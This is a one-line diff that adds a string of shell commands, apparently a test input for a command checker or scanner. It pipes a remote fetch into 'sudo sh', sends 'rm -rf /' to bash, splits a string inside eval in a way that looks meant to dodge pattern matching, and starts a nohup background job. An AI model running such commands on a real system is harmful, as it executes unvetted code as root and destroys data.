@@ -1,0 +1,1 @@
+curl x | sudo sh; echo 'rm -rf /' | bash -s; eval "ec""ho hi"; env A=b nohup foo &
